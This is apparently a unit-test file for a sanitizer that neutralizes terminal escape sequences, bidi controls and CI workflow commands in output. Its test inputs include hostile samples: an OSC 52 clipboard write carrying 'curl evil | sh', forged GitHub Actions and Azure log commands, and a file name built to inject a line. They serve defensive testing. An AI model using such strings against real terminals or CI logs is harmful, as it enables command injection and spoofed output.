import assert from 'node:assert/strict';
import { COMMAND_MARKER, terminalSafe, terminalSafeLine } from '../../../src/core/text';

const ESC = '\u001b';
const BEL = '\u0007';

/** Nothing a terminal or a CI runner would act on: no C0 but tab/newline, no DEL, no C1, no bidi, no lone CR. */
function assertInert(text: string): void {
  // eslint-disable-next-line no-control-regex
  assert.doesNotMatch(text, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/, JSON.stringify(text));
  for (const line of text.split('\n')) assert.doesNotMatch(line, /^\s*::|##(?:vso)?\[/i, JSON.stringify(line));
}

describe('terminalSafe', () => {
  it('keeps ordinary text, tabs, newlines and non-Latin Unicode exactly', () => {
    const text = 'naïve café — 日本語 😀 Ω\n\tindented: a::b and #tag\n';
    assert.equal(terminalSafe(text), text);
  });

  it('turns CSI sequences (screen clear, cursor moves, colors) into visible text', () => {
    const out = terminalSafe(`before${ESC}[2J${ESC}[H${ESC}[31mred${ESC}[0m${ESC}[3Aup`);
    assert.equal(out, 'before␛[2J␛[H␛[31mred␛[0m␛[3Aup');
    assertInert(out);
  });

  it('neutralizes OSC 52 clipboard writes and OSC titles with either terminator', () => {
    const osc52 = `${ESC}]52;c;${Buffer.from('curl evil | sh').toString('base64')}${BEL}`;
    const title = `${ESC}]0;owned${ESC}\\`;
    const out = terminalSafe(`x${osc52}${title}y`);
    assert.equal(out, `x␛]52;c;${Buffer.from('curl evil | sh').toString('base64')}␇␛]0;owned␛\\y`);
    assertInert(out);
  });

  it('neutralizes DCS/APC strings and the 8-bit C1 introducers (CSI 0x9b, OSC 0x9d, ST 0x9c)', () => {
    const out = terminalSafe(`${ESC}P1$qm${ESC}\\ ${ESC}_apc${ESC}\\ \u009b2J \u009d52;c;eA==\u009c \u0085`);
    assert.equal(out, '␛P1$qm␛\\ ␛_apc␛\\ \\u009b2J \\u009d52;c;eA==\\u009c \\u0085');
    assertInert(out);
  });

  it('shows every other C0 control and DEL, but keeps tab and newline', () => {
    const out = terminalSafe('a\u0000b\u0008c\u000bd\u000ce\u007ff\tg\nh');
    assert.equal(out, 'a␀b␈c␋d␌e␡f\tg\nh');
  });

  it('shows a lone CR (it would rewrite the line) but turns CRLF into a newline', () => {
    assert.equal(terminalSafe('harmless\rmalicious'), 'harmless␍malicious');
    assert.equal(terminalSafe('one\r\ntwo\r\r\n'), 'one\ntwo␍\n');
  });

  it('shows the bidi embeddings, overrides and isolates that disguise text', () => {
    const controls = ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'];
    const out = terminalSafe(`access${controls.join('')}level`);
    assert.equal(out, 'access\\u202a\\u202b\\u202c\\u202d\\u202e\\u2066\\u2067\\u2068\\u2069level');
    // Marks that only nudge direction (LRM, RLM) are ordinary text and stay.
    assert.equal(terminalSafe('a\u200eb\u200fc'), 'a\u200eb\u200fc');
  });

  it('puts a visible marker before GitHub Actions workflow commands on every line, after blanks too', () => {
    const text = '::add-mask::hunter2\nok line\n   ::stop-commands::tok\n\t::error file=a.js::boom\n\u00a0\u3000::warning::x\nnot :: a command';
    const out = terminalSafe(text);
    assert.deepEqual(out.split('\n'), [
      `${COMMAND_MARKER}::add-mask::hunter2`,
      'ok line',
      `${COMMAND_MARKER}   ::stop-commands::tok`,
      `${COMMAND_MARKER}\t::error file=a.js::boom`,
      `${COMMAND_MARKER}\u00a0\u3000::warning::x`,
      'not :: a command',
    ]);
    assertInert(out);
  });

  it('marks a command line once, not the blank line before it', () => {
    assert.equal(terminalSafe('a\n\n  ::error::x'), `a\n\n${COMMAND_MARKER}  ::error::x`);
  });

  it('breaks up ##[ and ##vso[ anywhere in a line (the runners look for them anywhere)', () => {
    const out = terminalSafe('see ##vso[task.setvariable variable=x]1 and ##[error]y and ##VSO[task.complete]');
    assert.equal(out, 'see #·#vso[task.setvariable variable=x]1 and #·#[error]y and #·#VSO[task.complete]');
    assertInert(out);
  });

  it('cannot be tricked into a command by a CR or an escape before the colons', () => {
    assertInert(terminalSafe('x\r::add-mask::y'));
    assertInert(terminalSafe(`${ESC}[2K\r::error::z`));
  });
});

describe('terminalSafeLine', () => {
  it('shows newlines too, so a file name cannot start or forge a line', () => {
    const out = terminalSafeLine('src/a\n::error::forged.js\r\nchorus error: fake');
    assert.equal(out, 'src/a␊::error::forged.js␊chorus error: fake');
    assert.ok(!out.includes('\n'));
    assertInert(out);
  });

  it('still marks a name that itself starts with ::', () => {
    assert.equal(terminalSafeLine('::add-mask::x.js'), `${COMMAND_MARKER}::add-mask::x.js`);
  });
});
